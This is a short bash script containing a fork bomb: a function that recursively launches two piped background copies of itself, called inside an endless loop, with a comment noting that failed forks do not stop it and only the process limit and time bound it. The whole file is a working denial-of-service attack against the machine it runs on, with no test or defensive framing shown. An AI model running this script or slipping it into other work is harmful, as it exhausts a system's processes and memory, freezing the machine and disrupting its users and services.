#!/bin/bash
# Children that cannot be made are no reason to stop: bash waits ever longer between its tries, the limit of processes
# holds, and time ends it.
fork_on() {
    fork_on | fork_on &
    fork_on | fork_on &
    sleep 3600
}

while true; do
    fork_on
done
